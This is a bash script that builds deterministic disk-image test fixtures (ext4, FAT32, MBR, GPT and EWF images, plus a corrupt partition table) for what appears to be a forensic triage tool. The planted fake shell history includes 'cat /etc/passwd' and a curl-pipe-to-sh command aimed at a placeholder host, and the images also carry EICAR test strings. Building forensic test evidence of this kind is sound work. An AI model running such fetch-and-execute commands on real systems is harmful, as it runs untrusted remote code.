#!/usr/bin/env bash
# mkfixtures.sh -- build the small, deterministic evidence images used by the tests.
#
# Usage: tests/data/mkfixtures.sh [OUTDIR]      (default: the folder this script lives in)
#
# Rebuilding gives byte-identical files (see SHA256SUMS and README.md): fixed UUIDs, hash seeds,
# volume serials and disk identifiers; a private mke2fs.conf; every inode time set explicitly
# with debugfs; mke2fs/mtools/ewfacquire run with a frozen clock (E2FSPROGS_FAKE_TIME, faketime);
# TZ=UTC and LC_ALL=C (mke2fs -d adds directory entries in strcoll order).
#
# Needs: e2fsprogs (mke2fs, debugfs), dosfstools (mkfs.vfat), mtools, fdisk (sfdisk),
# ewf-tools (ewfacquire), faketime, openssl, coreutils.  Run as any user (no mounting).
set -euo pipefail

here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
out=${1:-$here}
mkdir -p "$out"
out=$(cd "$out" && pwd)

# shellcheck source=tests/data/fixtures-lib.bash
. "$here/fixtures-lib.bash"
fixture_setup mkfixtures.sh mke2fs debugfs dumpe2fs mkfs.vfat mcopy mmd mdel sfdisk ewfacquire \
    faketime openssl

# prng BYTES KEYHEX: deterministic pseudo-random bytes (AES-128-CTR keystream over zeros).
prng() {
    head -c "$1" /dev/zero |
        openssl enc -aes-128-ctr -nosalt -K "$2" -iv 00000000000000000000000000000000
}

# ext_tree_inodes IMAGE INODE: INODE and every inode below it (directories walked with debugfs
# "ls -p", whose lines are /ino/mode/uid/gid/name/size/; only the leading fields are used).
ext_tree_inodes() {
    local img=$1 ino=$2 line child mode name
    echo "$ino"
    debugfs -R "ls -p <$ino>" "$img" 2>/dev/null | while IFS= read -r line; do
        [ -n "$line" ] || continue
        child=${line#/}; child=${child%%/*}
        mode=${line#/*/}; mode=${mode%%/*}
        name=${line#/*/*/*/*/}; name=${name%/*/}
        [ "$name" = . ] || [ "$name" = .. ] && continue
        if [ "${mode:0:2}" = 04 ]; then ext_tree_inodes "$img" "$child"; else echo "$child"; fi
    done
}

# ext_owners IMAGE [PATH UID GID]...: everything 0:0, then each PATH's subtree UID:GID.
ext_owners() {
    local img=$1 ino
    shift
    # shellcheck disable=SC2046  # inode numbers, split on purpose
    ext_chown "$img" 0 0 $(ext_tree_inodes "$img" 2 | sed 's/.*/<&>/')
    while [ $# -ge 3 ]; do
        ino=$(debugfs -R "stat $1" "$img" 2>/dev/null | awk '/^Inode:/ {print $2; exit}')
        # shellcheck disable=SC2046
        ext_chown "$img" "$2" "$3" $(ext_tree_inodes "$img" "$ino" | sed 's/.*/<&>/')
        shift 3
    done
}

# ext_delete IMAGE SRCFILE DEST DTIME: write a file with debugfs, give it times, then rm it.
# debugfs rm frees the inode and blocks but leaves the extent/block map in the inode, so
# icat still recovers the content; the name stays in the slack of the previous entry.
ext_delete() {
    local img=$1 src=$2 dest=$3 dtime=$4 ino
    faketime "$FROZEN" debugfs -w -R "write $src $dest" "$img" >/dev/null 2>&1
    ino=$(debugfs -R "stat $dest" "$img" 2>/dev/null | awk '/^Inode:/ {print $2; exit}')
    ext_set_times "$img" "$SOURCE_DATE_EPOCH" "$ino" "$ino"
    faketime "$FROZEN" debugfs -w -R "rm $dest" "$img" >/dev/null 2>&1
    faketime "$FROZEN" debugfs -w -R "sif <$ino> dtime @$dtime" "$img" >/dev/null 2>&1
}

# ------------------------------------------------------------------------------------ ext4.img
build_ext4() {
    local s=$work/ext4 f
    mkdir -p "$s"/etc "$s"/home/alice/docs "$s"/home/alice/Downloads "$s"/var/log "$s"/var/lib "$s"/tmp
    cat > "$s/etc/passwd" <<'EOF'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
alice:x:1000:1000:Alice Example,,,:/home/alice:/bin/bash
EOF
    echo 'evidence-host' > "$s/etc/hostname"
    printf 'Quarterly report\nRevenue: 42\nConfidential: no\n' > "$s/home/alice/docs/report.txt"
    ln "$s/home/alice/docs/report.txt" "$s/home/alice/docs/report-hardlink.txt"
    ln -s docs/report.txt "$s/home/alice/link-to-report"
    printf '%s' "$EICAR" > "$s/home/alice/Downloads/eicar.com"
    echo 'name with spaces and a pipe' > "$s/home/alice/notes with spaces | pipe.txt"
    echo 'name is not UTF-8' > "$s/home/alice/"$'bad\xff\xfename.txt'
    echo 'name holds ESC [31m' > "$s/home/alice/"$'esc\x1b[31mred.txt'
    printf 'ls -la\ncat /etc/passwd\ncurl http://example.invalid/x.sh | sh\n' > "$s/home/alice/.bash_history"
    for f in $(seq 1 300); do
        printf 'Apr  5 06:%02d:%02d evidence-host kernel: [%6d.000000] line %03d\n' \
            $((f / 60 % 60)) $((f % 60)) "$f" "$f"
    done > "$s/var/log/syslog"
    : > "$s/var/log/empty.log"
    truncate -s 256K "$s/var/lib/sparse.bin"
    printf 'data in the middle of a sparse file\n' | dd of="$s/var/lib/sparse.bin" bs=1024 seek=128 conv=notrunc status=none
    chmod 0600 "$s/home/alice/.bash_history"
    chmod 0700 "$s/home/alice"

    mkext ext4 "$work/ext4.img" 3072 "$s" \
        2e3f0b1a-0000-4000-8000-000000000e04 5eed0000-0000-4000-8000-000000000e04 triage-ext4 64 \
        -J size=1
    ext_owners "$work/ext4.img" /home/alice 1000 1000
    ext_set_times "$work/ext4.img" "$SOURCE_DATE_EPOCH" 11 "$(ext_last_inode "$work/ext4.img")"
    printf 'This file was deleted.\nIts content is still in the data blocks.\n' > "$work/deleted.txt"
    ext_delete "$work/ext4.img" "$work/deleted.txt" /home/alice/docs/deleted-secret.txt \
        $((SOURCE_DATE_EPOCH + 86400 * 30))
    cp "$work/ext4.img" "$out/ext4.img"
}

# ----------------------------------------------------------------------------------- fat32.img
# FAT32 needs >= 65525 clusters (TSK and mtools reject smaller "FAT32"), so this is the smallest
# real FAT32: 33 MiB, 512-byte clusters, almost all zeros.
build_fat32() {
    local img=$work/fat32.img s=$work/fat32
    mkdir -p "$s"
    printf 'Mixed case short name\r\n' > "$s/MixedCase.TXT"
    printf 'lower case short name\r\n' > "$s/lower.txt"
    printf 'A long file name\r\n' > "$s/Quarterly Report 2023 (final).docx"
    printf 'to be deleted\r\n' > "$s/To Be Deleted.txt"
    printf 'nested\r\n' > "$s/deep.txt"
    touch -d '2023-04-05 06:07:08.000000000' "$s/MixedCase.TXT" "$s/lower.txt"
    touch -d '2023-04-06 07:08:10.000000000' "$s/Quarterly Report 2023 (final).docx"
    touch -d '2023-04-07 08:09:12.000000000' "$s/To Be Deleted.txt" "$s/deep.txt"
    rm -f "$img"
    truncate -s 33M "$img"
    mkfs.vfat -F 32 -s 1 -S 512 --invariant -i 54524132 -n TRIAGEFAT32 "$img" >/dev/null
    faketime "$FROZEN" mmd -i "$img" ::/Documents "::/Documents/Sub Folder"
    fat_put "$img" / "$s/MixedCase.TXT" "$s/lower.txt"
    fat_put "$img" /Documents "$s/Quarterly Report 2023 (final).docx" "$s/To Be Deleted.txt"
    fat_put "$img" "/Documents/Sub Folder" "$s/deep.txt"
    faketime "$FROZEN" mdel -i "$img" "::/Documents/To Be Deleted.txt"
    cp "$img" "$out/fat32.img"
}

# ------------------------------------------------------------------------------------- mbr.img
# Sectors of 512 bytes:
#   p1  start  128, 2048 sectors, type 0x83, ext4 (no journal)
#   p2  start 2176, 4224 sectors, type 0x06, FAT16
#   p3  start 6400, 1088 sectors, type 0x05, extended
#   p5  start 6464, 1024 sectors, type 0x83, ext2 (logical)
# disk = 7488 sectors (3744 KiB)
build_mbr() {
    local disk=$work/mbr.img s1=$work/mbr-p1 s2=$work/mbr-p2 s5=$work/mbr-p5
    mkdir -p "$s1/etc" "$s1/home/bob" "$s2" "$s5/archive"
    echo 'partition one, ext4' > "$s1/etc/motd"
    printf 'bob notes\n' > "$s1/home/bob/notes.txt"
    echo 'logical partition, ext2' > "$s5/archive/readme.txt"
    printf 'old log line 1\nold log line 2\n' > "$s5/archive/old.log"

    mkext ext4 "$work/mbr-p1.img" 1024 "$s1" \
        2e3f0b1a-0000-4000-8000-000000000b01 5eed0000-0000-4000-8000-000000000b01 mbr-ext4 64 \
        -O ^has_journal
    ext_owners "$work/mbr-p1.img" /home/bob 1001 1001
    ext_set_times "$work/mbr-p1.img" $((SOURCE_DATE_EPOCH + 86400)) 11 "$(ext_last_inode "$work/mbr-p1.img")"
    printf 'deleted on partition one\n' > "$work/p1-deleted.txt"
    ext_delete "$work/mbr-p1.img" "$work/p1-deleted.txt" /home/bob/deleted.txt \
        $((SOURCE_DATE_EPOCH + 86400 * 31))

    mkext ext2 "$work/mbr-p5.img" 512 "$s5" \
        2e3f0b1a-0000-4000-8000-000000000b05 5eed0000-0000-4000-8000-000000000b05 mbr-ext2 64
    ext_owners "$work/mbr-p5.img"
    ext_set_times "$work/mbr-p5.img" $((SOURCE_DATE_EPOCH + 86400 * 2)) 11 "$(ext_last_inode "$work/mbr-p5.img")"

    # FAT16 with EICAR and a 1 MiB pseudo-random blob: the blob makes the E01 (deflate) larger
    # than its 1 MiB minimum segment size, so mbr.E01 + mbr.E02 form a real two-segment set.
    printf '%s' "$EICAR" > "$s2/EICAR.COM"
    printf 'FAT16 partition of mbr.img\r\n' > "$s2/ReadMe.txt"
    prng 1048576 0123456789abcdef0123456789abcdef > "$s2/blob.bin"
    touch -d '2023-04-08 09:10:12.000000000' "$s2/EICAR.COM" "$s2/ReadMe.txt" "$s2/blob.bin"
    truncate -s $((4224 * 512)) "$work/mbr-p2.img"
    mkfs.vfat -F 16 -s 1 -S 512 -h 2176 --invariant -i 54524116 -n MBRFAT16 "$work/mbr-p2.img" >/dev/null
    faketime "$FROZEN" mmd -i "$work/mbr-p2.img" ::/Download ::/Data
    fat_put "$work/mbr-p2.img" / "$s2/ReadMe.txt"
    fat_put "$work/mbr-p2.img" /Download "$s2/EICAR.COM"
    fat_put "$work/mbr-p2.img" /Data "$s2/blob.bin"

    rm -f "$disk"
    truncate -s $((7488 * 512)) "$disk"
    sfdisk -q --no-reread --no-tell-kernel "$disk" <<'EOF'
label: dos
label-id: 0x54524147
unit: sectors

start=128, size=2048, type=83
start=2176, size=4224, type=6
start=6400, size=1088, type=5
start=6464, size=1024, type=83
EOF
    dd if="$work/mbr-p1.img" of="$disk" bs=512 seek=128 conv=notrunc status=none
    dd if="$work/mbr-p2.img" of="$disk" bs=512 seek=2176 conv=notrunc status=none
    dd if="$work/mbr-p5.img" of="$disk" bs=512 seek=6464 conv=notrunc status=none
    cp "$disk" "$out/mbr.img"

    # Split raw: 1 MiB segments mbr.raw.000 ... mbr.raw.003 (TSK's numbered split naming).
    rm -f "$out"/mbr.raw.[0-9][0-9][0-9]
    split -b 1M -d -a 3 "$disk" "$out/mbr.raw."

    # EWF (EnCase 6) set, two segments; frozen clock gives fixed acquisition/system dates.
    rm -f "$out"/mbr.E0[0-9] "$work"/ewf.*
    (cd "$work" && faketime "$FROZEN" ewfacquire -q -u -t "$work/ewf" \
        -C case-001 -D 'triage test disk' -e 'Test Examiner' -E evidence-1 -N 'fixture notes' \
        -f encase6 -c deflate:fast -d sha1 -S 1MiB -m fixed -M physical "$disk" >/dev/null)
    for f in "$work"/ewf.E0[0-9]; do mv "$f" "$out/mbr.${f##*.}"; done

    # Truncated: first half of mbr.E01 only (alone, not part of a set).
    head -c $(($(stat -c %s "$out/mbr.E01") / 2)) "$out/mbr.E01" > "$out/truncated.E01"
}

# ------------------------------------------------------------------------------------- gpt.img
# GPT, 512-byte sectors: p1 start 40, 2048 sectors, "Linux filesystem", ext4 (no journal).
# disk = 2176 sectors (1088 KiB); first usable LBA 34, last usable 2142.
build_gpt() {
    local disk=$work/gpt.img s=$work/gpt-p1
    mkdir -p "$s/srv/www"
    echo '<html>gpt partition</html>' > "$s/srv/www/index.html"
    mkext ext4 "$work/gpt-p1.img" 1024 "$s" \
        2e3f0b1a-0000-4000-8000-000000000a01 5eed0000-0000-4000-8000-000000000a01 gpt-ext4 64 \
        -O ^has_journal
    ext_owners "$work/gpt-p1.img"
    ext_set_times "$work/gpt-p1.img" $((SOURCE_DATE_EPOCH + 86400 * 3)) 11 "$(ext_last_inode "$work/gpt-p1.img")"
    rm -f "$disk"
    truncate -s $((2176 * 512)) "$disk"
    sfdisk -q --no-reread --no-tell-kernel "$disk" <<'EOF'
label: gpt
label-id: 7A1A6E00-0000-4000-8000-000000000001
unit: sectors
first-lba: 34

start=40, size=2048, type=0FC63DAF-8483-4772-8E79-3D69D8477DE4, uuid=7A1A6E00-0000-4000-8000-0000000000A1, name="triage-root"
EOF
    dd if="$work/gpt-p1.img" of="$disk" bs=512 seek=40 conv=notrunc status=none
    cp "$disk" "$out/gpt.img"
}

# ------------------------------------------------------------------------------ corrupt-pt.img
# 64 KiB (128 sectors) MBR disk with a valid 0x55AA signature and a broken table:
#   entry 1: type 0x83, start   2048, size 100000  (starts past the end of the disk)
#   entry 2: type 0x07, start     16, size     64
#   entry 3: type 0x0b, start     32, size     64  (overlaps entry 2, runs past the end)
#   entry 4: 16 pseudo-random bytes
build_corrupt() {
    local img=$work/corrupt-pt.img
    prng 65536 c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0 > "$img"
    # zero the table area first, then write entries (little-endian LBA start and size)
    dd if=/dev/zero of="$img" bs=1 seek=446 count=64 conv=notrunc status=none
    # shellcheck disable=SC2059  # the inner printf builds \xNN escapes for the outer one
    entry() { # slot type start size
        printf "$(printf '\\x00\\xfe\\xff\\xff\\x%02x\\xfe\\xff\\xff' "$2")" >  "$work/e"
        printf "$(printf '\\x%02x\\x%02x\\x%02x\\x%02x' $(($3 & 255)) $(($3 >> 8 & 255)) $(($3 >> 16 & 255)) $(($3 >> 24 & 255)))" >> "$work/e"
        printf "$(printf '\\x%02x\\x%02x\\x%02x\\x%02x' $(($4 & 255)) $(($4 >> 8 & 255)) $(($4 >> 16 & 255)) $(($4 >> 24 & 255)))" >> "$work/e"
        dd if="$work/e" of="$img" bs=1 seek=$((446 + 16 * ($1 - 1))) conv=notrunc status=none
    }
    entry 1 0x83 2048 100000
    entry 2 0x07 16 64
    entry 3 0x0b 32 64
    prng 16 0badc0de0badc0de0badc0de0badc0de | dd of="$img" bs=1 seek=494 conv=notrunc status=none
    printf '\x55\xaa' | dd of="$img" bs=1 seek=510 conv=notrunc status=none
    cp "$img" "$out/corrupt-pt.img"
}

build_misc() {
    prng 65536 72616e646f6d2e62696e2d7472696167 > "$out/random.bin"
    : > "$out/empty.bin"
}

build_ext4
build_fat32
build_mbr
build_gpt
build_corrupt
build_misc

# Every built file has the mtime SOURCE_DATE_EPOCH (only the bytes are compared, but tidy).
(cd "$out" && touch -d "@$SOURCE_DATE_EPOCH" ext4.img fat32.img mbr.img mbr.raw.[0-9][0-9][0-9] \
    mbr.E0[0-9] truncated.E01 gpt.img corrupt-pt.img random.bin empty.bin)
echo "mkfixtures.sh: images written to $out" >&2
